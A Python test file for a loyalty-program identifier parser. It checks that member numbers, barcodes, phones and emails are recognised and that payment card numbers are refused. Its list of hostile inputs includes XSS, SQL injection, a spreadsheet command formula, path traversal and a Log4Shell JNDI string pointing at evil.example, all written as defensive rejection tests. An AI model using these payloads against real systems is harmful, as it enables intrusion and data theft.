"""One field: what was typed or scanned, recognised or clearly refused."""

import random
import re

import phonenumbers
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tallystick.security.check_digits import (
    ean13_with_check_digit,
    gsrn_with_check_digit,
    has_gs1_check_digit,
    has_luhn_check_digit,
    looks_like_payment_card,
)
from tallystick.security.identifiers import (
    Identifier,
    IdentifierKind,
    IdentifierReason,
    IdentifierRefused,
    generate_member_number,
    parse_identifier,
)

NUMBER = "9900000000012346"
EAN13 = "2012345678903"
GSRN = "123456789012345675"
UK_GSRN_LIKE_A_CARD = "501234567890000048"


def parse(
    text: str, region: str = "DE", kind: IdentifierKind | None = None, aim_id: str = ""
) -> Identifier | IdentifierRefused:
    return parse_identifier(text, default_region=region, kind=kind, aim_id=aim_id)


def reason(
    text: str, region: str = "DE", kind: IdentifierKind | None = None, aim_id: str = ""
) -> IdentifierReason | None:
    parsed = parse(text, region, kind, aim_id)
    return parsed.reason if isinstance(parsed, IdentifierRefused) else None


@pytest.mark.parametrize(
    ("text", "region", "kind", "value"),
    [
        (NUMBER, "DE", "number", NUMBER),
        ("9900 0000 0001 2346", "DE", "number", NUMBER),
        ("9900-0000-0001-2346", "DE", "number", NUMBER),
        (EAN13, "DE", "ean13", EAN13),
        ("2 012345 678903", "DE", "ean13", EAN13),
        (GSRN, "DE", "gsrn", GSRN),
        ("8018" + GSRN, "DE", "gsrn", GSRN),
        ("(8018)" + GSRN, "DE", "gsrn", GSRN),
        ("(8018) " + GSRN, "DE", "gsrn", GSRN),
        ("]C18018" + GSRN, "DE", "gsrn", GSRN),
        ("]E0" + EAN13, "DE", "ean13", EAN13),
        ("]C0" + NUMBER, "DE", "number", NUMBER),
        ("+49 151 12345678", "DE", "phone", "+4915112345678"),
        ("0151 12345678", "DE", "phone", "+4915112345678"),
        ("0049 151 12345678", "DE", "phone", "+4915112345678"),
        ("(0151) 1234-5678", "DE", "phone", "+4915112345678"),
        ("+49\u00a0151\u202f1234\u20115678", "DE", "phone", "+4915112345678"),
        ("0612345678", "NL", "phone", "+31612345678"),
        ("0612345678", "FR", "phone", "+33612345678"),
        ("+1 (212) 555-2368", "US", "phone", "+12125552368"),
        ("212.555.2368", "US", "phone", "+12125552368"),
        ("Ana.Lima@Example.ORG", "DE", "email", "ana.lima@example.org"),
        ("o'brien+club@mail.example.co.uk", "GB", "email", "o'brien+club@mail.example.co.uk"),
        ("a@xn--bcher-kva.example", "DE", "email", "a@xn--bcher-kva.example"),
    ],
)
def test_what_a_person_or_scanner_gives_is_recognised(text: str, region: str, kind: str, value: str) -> None:
    assert parse(text, region) == Identifier(IdentifierKind(kind), value)


def test_a_phone_number_belongs_to_the_country_of_the_store() -> None:
    assert parse("0612345678", "NL") != parse("0612345678", "FR")


@pytest.mark.parametrize("edge", ["\r\n", "\t", "\x1d", "\x00", "\u200b", "\ufeff", "\u202a", "  \r\n\t"])
def test_what_a_scanner_or_a_copy_leaves_at_the_edges_is_stripped(edge: str) -> None:
    assert parse(edge + NUMBER + edge) == Identifier(IdentifierKind.NUMBER, NUMBER)


@pytest.mark.parametrize(
    "text",
    [
        NUMBER[:-1] + "0",
        NUMBER[:4] + "1" + NUMBER[5:],
        EAN13[:-1] + "4",
        GSRN[:-1] + "4",
        "(8018)" + GSRN[:-1] + "0",
        "8018" + GSRN[:-1] + "0",
    ],
)
def test_a_number_with_a_wrong_digit_is_refused_as_such(text: str) -> None:
    assert reason(text) is IdentifierReason.CHECK_DIGIT


@pytest.mark.parametrize(
    "text",
    [
        "4111111111111111",
        "4111 1111 1111 1111",
        "4111-1111-1111-1111",
        "4111.1111.1111.1111",
        " 4111111111111111\r\n",
        "%B4111111111111111^DOE/JANE^2512101?",
        ";4111111111111111=25121010000012345678?",
        "card 4111111111111111 please",
        "4111111111111111@example.com",
        "]C04111111111111111",
        "378282246310005",
        "30569309025904",
        "4222222222222",
        "6759649826438453",
        UK_GSRN_LIKE_A_CARD,
    ],
)
def test_a_payment_card_number_is_refused_wherever_it_stands(text: str) -> None:
    assert reason(text) is IdentifierReason.PAYMENT_CARD


@pytest.mark.parametrize("kind", IdentifierKind)
def test_naming_a_kind_does_not_make_a_payment_card_acceptable(kind: IdentifierKind) -> None:
    assert reason("4111111111111111", kind=kind) is IdentifierReason.PAYMENT_CARD


def test_a_gsrn_that_happens_to_look_like_a_card_is_taken_when_it_says_that_it_is_a_gsrn() -> None:
    assert has_gs1_check_digit(UK_GSRN_LIKE_A_CARD)
    assert looks_like_payment_card(UK_GSRN_LIKE_A_CARD)
    expected = Identifier(IdentifierKind.GSRN, UK_GSRN_LIKE_A_CARD)
    assert parse("(8018)" + UK_GSRN_LIKE_A_CARD) == expected
    assert parse(UK_GSRN_LIKE_A_CARD, aim_id="]C1") == expected
    assert parse(UK_GSRN_LIKE_A_CARD, kind=IdentifierKind.GSRN) == expected


HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>@example.com",
    "' OR '1'='1",
    "'; DROP TABLE member; --",
    "' OR 1=1--@example.com",
    "https://example.com/",
    "https://id.gs1.org/8018/" + GSRN,
    "http://user@example.com",
    "javascript:alert(1)",
    "mailto:ana@example.org",
    "tel:+4915112345678",
    "=cmd|'/c calc'!A0",
    "=1+1@example.com",
    "../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%00",
    NUMBER[:8] + "\x1d" + NUMBER[8:],
    NUMBER[:8] + "\x00" + NUMBER[8:],
    NUMBER[:8] + "\n" + NUMBER[8:],
    "ana@example.org\nbcc: all@example.org",
    "ana@example.org,all@example.org",
    "ana@example",
    "ana@@example.org",
    "ana@.org",
    "ana@-x.org",
    "ana.@example.org",
    ".ana@example.org",
    "a..b@example.org",
    '"ana b"@example.org',
    "ana@[127.0.0.1]",
    "ana@127.0.0.1",
    "@example.org",
    "a" * 65 + "@example.org",
    "a\u00f1\u0430@example.org",
    "\u0430na@example.org",
    "\u0660\u0661\u0665\u0661\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
    "\uff10\uff11\uff15\uff11\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18",
    "\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2\u00b2",
    "\u212aim@example.org",
    "7000000000000005",
    "7000000000000001",
    "Ana Lima",
    "12345",
    "110",
    "4006381333931",
    "0900 5 123456",
    "0137 1234567",
    "+49 151 12345678 ext. 5",
    "+49 151 12345678;ext=5",
    "1-800-FLOWERS",
    "++4915112345678",
    "+",
    "()()()",
    "-" * 128,
    "9" * 128,
    "8018" + GSRN + "8018" + GSRN,
    "(8018)" + "(8018)" + GSRN,
    GSRN[:9] + "(8018)" + GSRN[9:],
    GSRN + "(8018)",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_text_of_no_known_form_is_refused(text: str) -> None:
    assert reason(text) is IdentifierReason.UNKNOWN_FORMAT


@pytest.mark.parametrize("text", ["", " ", "\r\n", "\x00\x00", "\u200b", "]E0", "]C1\x1d"])
def test_nothing_is_refused_as_nothing(text: str) -> None:
    assert reason(text) in (IdentifierReason.EMPTY, IdentifierReason.UNKNOWN_FORMAT)
    assert reason(text.rstrip("]E0C1\x1d")) is IdentifierReason.EMPTY


@pytest.mark.parametrize("text", ["a" * 129, " " * 129, "4111111111111111" * 9, "x" * 3000, "\x00" * 100_000])
def test_a_text_beyond_the_limit_is_refused_before_anything_else(text: str) -> None:
    assert reason(text) is IdentifierReason.TOO_LONG


@pytest.mark.parametrize("region", ["", "de", "XX", "DEU", "001", "' OR 1=1"])
def test_an_unknown_country_is_refused(region: str) -> None:
    assert reason(NUMBER, region) is IdentifierReason.REGION_UNKNOWN


def ambiguous_text() -> str:
    """Thirteen digits that are an in-store EAN-13 and, in Nigeria, a mobile number with its country code."""
    for serial in range(10_000):
        text = f"234803{serial:07d}"
        if has_gs1_check_digit(text):
            return text
    raise AssertionError


def test_a_text_that_fits_two_kinds_is_refused_not_guessed() -> None:
    assert reason(ambiguous_text(), "NG") is IdentifierReason.AMBIGUOUS


def test_naming_the_kind_or_writing_a_plus_settles_what_is_ambiguous() -> None:
    text = ambiguous_text()
    assert parse(text, "NG", IdentifierKind.EAN13) == Identifier(IdentifierKind.EAN13, text)
    assert parse(text, "NG", IdentifierKind.PHONE) == Identifier(IdentifierKind.PHONE, "+" + text)
    assert parse(text, "NG", aim_id="]E0") == Identifier(IdentifierKind.EAN13, text)
    assert parse("+" + text, "NG") == Identifier(IdentifierKind.PHONE, "+" + text)


def test_a_named_kind_is_the_only_one_considered() -> None:
    assert reason("ana@example.org", kind=IdentifierKind.PHONE) is IdentifierReason.UNKNOWN_FORMAT
    assert reason(NUMBER, kind=IdentifierKind.EMAIL) is IdentifierReason.UNKNOWN_FORMAT
    assert reason(EAN13[:-1] + "4", kind=IdentifierKind.EAN13) is IdentifierReason.CHECK_DIGIT


def test_a_symbology_that_cannot_carry_the_number_is_refused() -> None:
    assert reason("]E0" + NUMBER) is IdentifierReason.UNKNOWN_FORMAT
    assert reason("]C1" + EAN13) is IdentifierReason.UNKNOWN_FORMAT
    assert reason(NUMBER, aim_id="]E0") is IdentifierReason.UNKNOWN_FORMAT


def test_no_refusal_and_no_repr_repeats_what_was_given() -> None:
    texts = [*HOSTILE_TEXTS, "4111111111111111", NUMBER[:-1] + "0", ambiguous_text()]
    for text in texts:
        parsed = parse(text, "NG" if text == ambiguous_text() else "DE")
        assert isinstance(parsed, IdentifierRefused)
        assert len(text) < 6 or text not in repr(parsed)
        assert parsed.mend.endswith(".")


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("ana.lima@example.org", "a…@example.org"),
        ("+4915112345678", "…5678"),
        (NUMBER, "…2346"),
        (GSRN, "…5675"),
    ],
)
def test_a_masked_identifier_shows_only_its_end(text: str, masked: str) -> None:
    parsed = parse(text)
    assert isinstance(parsed, Identifier)
    assert parsed.masked == masked
    assert parsed.value not in repr(parsed)


def test_parsing_a_normal_form_again_changes_nothing() -> None:
    for text in (NUMBER, EAN13, GSRN, "0151 12345678", "Ana@Example.org"):
        parsed = parse(text)
        assert isinstance(parsed, Identifier)
        assert parse(parsed.value) == parsed


def test_generated_member_numbers_are_recognised_and_differ() -> None:
    numbers = [generate_member_number() for _ in range(2000)]
    assert len(set(numbers)) == len(numbers)
    for number in numbers:
        assert re.fullmatch(r"99[0-9]{14}", number)
        assert has_luhn_check_digit(number)
        assert not looks_like_payment_card(number)
        assert parse(number) == Identifier(IdentifierKind.NUMBER, number)


def test_a_member_number_is_a_member_number_in_every_country() -> None:
    # Finland and North Korea dial abroad with 99: only the bound on bare digits keeps them apart.
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        for _ in range(5):
            number = generate_member_number()
            assert parse(number, region) == Identifier(IdentifierKind.NUMBER, number), region


def test_a_gsrn_is_a_gsrn_in_every_country() -> None:
    generator = random.Random(20_250_101)
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        for _ in range(20):
            gsrn = gsrn_with_check_digit("1" + "".join(generator.choices("0123456789", k=16)))
            assert parse(gsrn, region) == Identifier(IdentifierKind.GSRN, gsrn), region


def test_an_in_store_card_is_ambiguous_only_behind_the_country_code_of_the_store() -> None:
    generator = random.Random(20_250_101)
    ambiguous = set()
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        code = str(phonenumbers.country_code_for_region(region))
        for front in [str(prefix) for prefix in range(20, 30)] + [code] * 20 * code.startswith("2"):
            ean13 = ean13_with_check_digit((front + "".join(generator.choices("0123456789", k=12)))[:12])
            if reason(ean13, region) is IdentifierReason.AMBIGUOUS:
                assert ean13.startswith(code)
                ambiguous.add(region)
            else:
                assert parse(ean13, region) == Identifier(IdentifierKind.EAN13, ean13), region
    assert ambiguous


def test_the_example_number_of_every_country_is_recognised_as_a_phone() -> None:
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        example = phonenumbers.example_number_for_type(region, phonenumbers.PhoneNumberType.MOBILE)
        if example is None:
            continue
        e164 = phonenumbers.format_number(example, phonenumbers.PhoneNumberFormat.E164)
        national = phonenumbers.format_number(example, phonenumbers.PhoneNumberFormat.NATIONAL)
        assert parse(e164, region) == Identifier(IdentifierKind.PHONE, e164), region
        assert parse(national, region) == Identifier(IdentifierKind.PHONE, e164), region


@given(text=st.text(max_size=140), region=st.sampled_from(sorted(phonenumbers.SUPPORTED_REGIONS)))
def test_any_text_is_either_one_plain_identifier_or_one_refusal(text: str, region: str) -> None:
    parsed = parse(text, region)
    if isinstance(parsed, Identifier):
        assert re.fullmatch(r"\+?[0-9]+|[!-~]+@[a-z0-9.-]+", parsed.value)
    else:
        assert parsed.reason in IdentifierReason


@given(digits=st.text(alphabet="0123456789 -+().]EC", max_size=40))
def test_no_run_of_digits_gets_a_payment_card_through(digits: str) -> None:
    parsed = parse(digits)
    if isinstance(parsed, Identifier) and parsed.kind in (IdentifierKind.NUMBER, IdentifierKind.EAN13):
        assert not looks_like_payment_card(parsed.value)
